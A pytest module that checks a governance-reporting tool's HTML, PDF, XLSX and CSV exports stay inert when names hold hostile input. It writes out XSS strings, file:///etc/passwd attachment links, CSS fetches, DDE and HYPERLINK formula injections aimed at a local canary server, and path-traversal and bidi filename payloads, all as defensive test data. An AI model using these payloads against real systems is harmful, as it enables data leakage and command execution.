"""Hostile codes and names through the real output paths (issue #12, items 1 and 2).

A workspace of the governance scenario (tests/governance/conftest.py) gets markup and formula
payloads as names (codes cannot hold them: the code rule refuses them at the door, see
test_codes_and_cli.py); its cycles run and their HTML, PDF and XLSX packs are
written by ``write_packs``. Checks: the HTML parses with no live ``<script>``, ``<img>``, ``<a>``
or injected attribute, and carries a strict Content-Security-Policy; the PDF embeds no file and
fetches nothing (a local HTTP server counts requests); no XLSX cell is a formula; pack file names
carry no separator, control or bidi character; CSV exports and error reports guard formula
cells, and the export still re-imports exactly.
"""

from __future__ import annotations

import csv
import io
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from bigov.analysis.trace import _Graph, render_strategy_map
from bigov.errors import Problem, ValidationError
from bigov.governance.models import GovernanceNode
from bigov.ingest.csv_guard import guard, unguard
from bigov.ingest.export import export
from bigov.ingest.service import import_file, resolve_options
from bigov.ingest.template import write_error_report
from bigov.org.models import Person
from bigov.reports import charts, render_html, render_xlsx, safe_filename
from bigov.reports.pdf import html_to_pdf, render_pdf
from bigov.work.models import WorkItem
from bigov.workspace import Workspace
from tests.governance.conftest import (
    _backends,
    build_scenario,
    close_test_workspace,
    open_test_workspace,
)


class _Requests(BaseHTTPRequestHandler):
    seen: list[str] = []  # noqa: RUF012 — one server per module, read after the renders

    def do_GET(self) -> None:  # any request at all is the failure being tested for
        type(self).seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *_args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def canary() -> Iterator[tuple[str, list[str]]]:
    """A local HTTP server the payloads point at; its list of paths requested must stay empty."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Requests)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", _Requests.seen
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def markup_payloads(base: str) -> list[str]:
    return [
        'M"><a rel=attachment href=file:///etc/passwd>x</a>',
        f"<img src={base}/img>",
        '"><script>alert(1)</script>',
        f"x' onload='fetch(\"{base}/attr\")' y='",
        '<link rel=attachment href="file:///etc/passwd"><svg onload=alert(1)>',
        f"<style>@import url({base}/css);body{{background:url(file:///etc/passwd)}}</style>",
    ]


def formula_payloads(base: str) -> list[str]:
    return [
        f'=HYPERLINK("{base}/leak?x="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "'=already quoted",
    ]


FILENAME_PAYLOAD = "..\\PB1\n\u202egnp.exe"

ALLOWED_TAGS = {
    *("html", "head", "meta", "title", "style", "body", "header", "div", "h1", "h2", "h3", "h4"),
    *("p", "span", "strong", "br", "ul", "li", "section", "table", "tr", "th", "td", "details"),
    *("summary", "footer"),
    # inline SVG from matplotlib and the strategy map
    *("svg", "g", "path", "defs", "clippath", "use", "text", "rect", "line", "polyline", "circle"),
}


class _Inspector(HTMLParser):
    """Every element and attribute of a page, to find what markup in data would have added."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_inert_html(html: str, payloads: list[str]) -> None:
    page = _Inspector()
    page.feed(html)
    names = {tag for tag, _ in page.tags}
    assert not names & {"script", "img", "a", "link", "iframe", "object", "embed", "base"}, names
    assert names <= {t.lower() for t in ALLOWED_TAGS}, names - {t.lower() for t in ALLOWED_TAGS}
    for tag, attrs in page.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, value)
            assert name not in ("src", "rel", "srcdoc", "formaction"), (tag, name, value)
            if name in ("href", "xlink:href"):
                assert (value or "").startswith("#"), (tag, name, value)  # in-document only
    text = "".join(page.text)
    for p in payloads:  # shown as the text it is, in full
        assert p in text or p.replace("\r", "\n") in text or p.strip() in text, p
    csp = [
        dict(attrs)
        for tag, attrs in page.tags
        if tag == "meta"
        and (dict(attrs).get("http-equiv") or "").lower() == "content-security-policy"
    ]
    assert len(csp) == 1
    policy = csp[0]["content"] or ""
    assert "default-src 'none'" in policy and "img-src data:" in policy
    assert "script-src 'none'" in policy


def assert_inert_pdf(pdf: bytes) -> None:
    assert pdf.startswith(b"%PDF")
    assert b"/EmbeddedFile" not in pdf and b"/Filespec" not in pdf
    assert b"root:x:0:0" not in pdf and b"/bin/bash" not in pdf


def assert_no_formulas(data: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(data))
    texts: list[str] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


@pytest.fixture(params=_backends())
def hostile(
    request: pytest.FixtureRequest, tmp_path: Path, canary: tuple[str, list[str]]
) -> Iterator[tuple[Workspace, list[str], list[str]]]:
    """The scenario with every payload as a code or name; returns it and the payloads used."""
    base, _seen = canary
    ws, schema = open_test_workspace(request.param, tmp_path)
    markup, formulas = markup_payloads(base), formula_payloads(base)
    try:
        build_scenario(ws)
        with ws.session() as s:
            work = ["PRJ-2", "PROG", "PRJ-1", "PORT", "PRJ-3"]
            for code, name in zip(work, [*markup[:4], formulas[0]], strict=True):
                s.execute(update(WorkItem).where(WorkItem.code == code).values(name=name))
            s.execute(update(Person).where(Person.code == "P-SRO").values(name=formulas[1]))
            s.execute(update(Person).where(Person.code == "P-CHAIR").values(name=markup[2]))
            for node, name in zip(
                ["PG", "PF", "MB"], [markup[2], markup[5], formulas[2]], strict=True
            ):
                s.execute(
                    update(GovernanceNode).where(GovernanceNode.code == node).values(name=name)
                )
        ws.set_setting("organisation_name", markup[1])
        yield ws, markup, formulas
    finally:
        close_test_workspace(ws, schema)


def test_packs_of_hostile_data_are_inert(
    hostile: tuple[Workspace, list[str], list[str]],
    canary: tuple[str, list[str]],
    tmp_path: Path,
) -> None:
    ws, markup, formulas = hostile
    _base, seen = canary
    ws.governance.run_all("2026-03")
    cycles = [c["code"] for c in ws.governance.list_cycles(period="2026-03")]
    assert len(cycles) >= 6
    out = tmp_path / "packs"
    written: dict[str, dict[str, str]] = {}
    for code in cycles:
        fmts = ["html", "xlsx", "pdf"] if code.startswith(("PG/", "PF/", "PB1/")) else ["html"]
        written[code] = ws.governance.write_packs(code, out, fmts)
    # file names: one flat folder, nothing but safe characters
    files = sorted(p.name for p in out.iterdir())
    assert all(p.parent == out for p in out.iterdir())
    for name in files:
        assert not set(name) & {"\\", "/", "\n", "\r", "\u202e", "\x00"}, name
        assert not name.startswith("."), name
    pb1 = next(c for c in cycles if c.startswith("PB1/"))
    assert Path(written[pb1]["html"]).name == safe_filename(pb1) + ".html"
    # HTML: shown as text, nothing live
    for paths in written.values():
        html = Path(paths["html"]).read_text(encoding="utf-8")
        assert_inert_html(html, [])
    pg = next(c for c in cycles if c.startswith("PG/"))
    html = Path(written[pg]["html"]).read_text(encoding="utf-8")
    assert_inert_html(html, [markup[0], markup[2]])  # an item's name, the board's name
    # PDF: no attachment, no fetched file
    for paths in written.values():
        if "pdf" in paths:
            assert_inert_pdf(Path(paths["pdf"]).read_bytes())
    # XLSX: text, never formulas
    texts: list[str] = []
    for paths in written.values():
        if "xlsx" in paths:
            texts += assert_no_formulas(Path(paths["xlsx"]).read_bytes())
    assert any(formulas[0] in t for t in texts) and any(markup[0] in t for t in texts)
    # a measure (its code goes into a chart's aria-label) with every payload as its text
    doc = ws.governance.cycle_document(pg)
    for p in markup + formulas:
        values = [{"period": "2026-03", "value": "1", "target": "2", "rag": "red", "partial": 0}]
        doc.setdefault("measures", []).append(
            {"code": p, "measure": p, "grain": "month", "org": p, "status": p, "detail": p}
            | {"values": values}
        )
    assert_inert_html(render_html(doc).decode(), [])
    texts = assert_no_formulas(render_xlsx(doc))
    # (XML reads a stored CR back as LF: still text, just not byte-identical)
    missing = [
        p for p in markup + formulas if p not in texts and p.replace("\r", "\n") not in texts
    ]
    assert missing == []
    assert_inert_pdf(render_pdf(doc))
    assert seen == [], f"the renderer fetched {seen}"


def test_measure_code_and_strategy_map_payloads(canary: tuple[str, list[str]]) -> None:
    base, seen = canary
    for payload in [*markup_payloads(base), "M\\g<0>\\1"]:
        svg = charts.measure_trend(
            [{"period": "2026-01", "value": "1", "target": "2", "rag": "red"}], f"{payload} by m"
        )
        page = _Inspector()
        page.feed(svg)
        root = page.tags[0]
        assert root[0] == "svg" and dict(root[1])["aria-label"] == f"{payload} by m"
        assert not {t for t, _ in page.tags} & {"script", "img", "a", "link"}
        g = _Graph()
        g.otigs[1] = (payload, payload, "goal")
        g.otcs[2] = (payload + "2", payload, "objective", "active")
        g.otc_otigs[2] = [1]
        g.otig_otcs[1] = [2]
        smap = render_strategy_map(g)
        page = _Inspector()
        page.feed(smap)
        assert {t for t, _ in page.tags} <= {"svg", "title", "text", "line", "g", "rect"}
        ids = [dict(a)["id"] for t, a in page.tags if t == "g"]
        assert payload in ids and all(len(a) <= 8 for _t, a in page.tags)
    assert seen == []


def test_pdf_fetches_nothing_even_from_raw_markup(canary: tuple[str, list[str]]) -> None:
    """Defence in depth: markup that reached the renderer unescaped still fetches and embeds
    nothing, and the page is printed."""
    base, seen = canary
    html = (
        f"<html><head><style>@import url('{base}/css');"
        f" body {{ background: url({base}/bg) }}</style>"
        f'<link rel="stylesheet" href="{base}/sheet.css"><link rel="attachment" '
        f'href="file:///etc/passwd"></head><body><p>pack</p><img src="{base}/img.png">'
        '<img src="file:///etc/passwd"><a rel="attachment" href="file:///etc/passwd">x</a>'
        f'<a rel="attachment" href="{base}/doc">y</a><img src="/etc/passwd">'
        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">'
        "</body></html>"
    )
    assert_inert_pdf(html_to_pdf(html))
    assert seen == []


def test_csv_export_is_guarded_and_round_trips(
    hostile: tuple[Workspace, list[str], list[str]], tmp_path: Path
) -> None:
    ws, _markup, formulas = hostile
    with ws.session() as s:
        for code, name in zip(["PRJ-1", "PORT", "PROG"], formulas[3:6], strict=True):
            s.execute(update(WorkItem).where(WorkItem.code == code).values(name=name))
        s.execute(update(Person).where(Person.code == "P-CHAIR").values(name=formulas[7]))
        before = {
            "work_item": dict(s.execute(select(WorkItem.code, WorkItem.name)).all()),
            "person": dict(s.execute(select(Person.code, Person.name)).all()),
        }
    guarded = export(ws, tmp_path / "csv", fmt="csv")
    raw = export(ws, tmp_path / "raw", fmt="csv", csv_raw=True)
    for f in guarded:
        with f.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell[:1] or cell[0] not in "=+-@\t\r", (f.name, cell)
    raw_cells = {
        c for f in raw for r in csv.reader(io.StringIO(f.read_text("utf-8-sig"))) for c in r
    }
    assert formulas[1] in raw_cells  # --csv-raw writes them as stored
    fresh = Workspace.open(f"sqlite:///{tmp_path / 'fresh.db'}")
    try:
        for f in guarded:  # one file per kind, in load order; empty kinds have nothing to import
            if len(f.read_text("utf-8-sig").splitlines()) < 2:
                continue
            import_file(fresh, f, options=resolve_options(kind=f.stem), user="rt")
        with fresh.session() as s:
            after = {
                "work_item": dict(s.execute(select(WorkItem.code, WorkItem.name)).all()),
                "person": dict(s.execute(select(Person.code, Person.name)).all()),
            }
    finally:
        fresh.close()
    # (the import trims text, so "\t=1+1" comes back as "=1+1" from any export, raw or not)
    for kind, rows in before.items():
        diffs = {
            c: (v, after[kind].get(c)) for c, v in rows.items() if after[kind].get(c) != v.strip()
        }
        assert diffs == {}, kind


def test_error_reports_hold_formulas_as_text(tmp_path: Path, canary: tuple[str, list[str]]) -> None:
    base, _seen = canary
    formulas = formula_payloads(base)
    bad = tmp_path / "work_item.csv"
    with bad.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["code", "name", "kind", "whole_life_cost", "owner"])
        for i, f in enumerate(formulas):  # an invalid kind and cost, an unknown owner
            w.writerow([f"W{i}", "n", f, f, f])
    ws = Workspace.open(f"sqlite:///{tmp_path / 'ws.db'}")
    try:
        with pytest.raises(ValidationError) as err:
            import_file(ws, bad, options=resolve_options(kind="work_item"), user="t")
    finally:
        ws.close()
    problems: list[Problem] = err.value.problems
    values = [p.value for p in problems if p.value]
    assert values and any(v.startswith("=") for v in values)
    xlsx = write_error_report(problems, tmp_path / "errors.xlsx")
    texts = assert_no_formulas(xlsx.read_bytes())
    assert formulas[0] in texts
    report = write_error_report(problems, tmp_path / "errors.csv")
    with report.open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert all(not c[:1] or c[0] not in "=+-@\t\r" for c in cells)
    assert guard(formulas[0]) in cells


@pytest.mark.parametrize(
    "value",
    ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "'=1", "''-1", "'", "''", "a=1", "", "'a", "-"],
)
def test_guard_round_trips(value: str) -> None:
    assert unguard(guard(value)) == value
    assert guard(value)[:1] not in tuple("=+-@\t\r")


def test_safe_filename() -> None:
    assert safe_filename("PG/2026-03/v1") == "PG_2026-03_v1"
    for hostile_name in (FILENAME_PAYLOAD, "../../etc/passwd", "a\\b", "x\x00y", "..", "CON"):
        name = safe_filename(hostile_name)
        assert name and not name.startswith(".") and name.upper() != "CON"
        assert all(ch.isalnum() or ch in "._-@" for ch in name), name
    assert len(safe_filename("x" * 1000)) <= 150
